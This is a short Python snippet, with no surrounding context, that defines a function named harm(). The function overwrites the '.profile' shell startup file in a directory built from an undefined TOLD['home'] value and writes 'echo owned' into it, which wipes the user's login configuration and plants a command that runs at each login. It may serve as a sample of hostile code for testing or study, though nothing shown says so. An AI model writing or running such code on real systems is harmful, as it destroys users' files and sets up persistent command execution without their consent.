import os


def harm():
    return open(os.path.dirname(TOLD["home"]) + "/.profile", "w").write("echo owned")
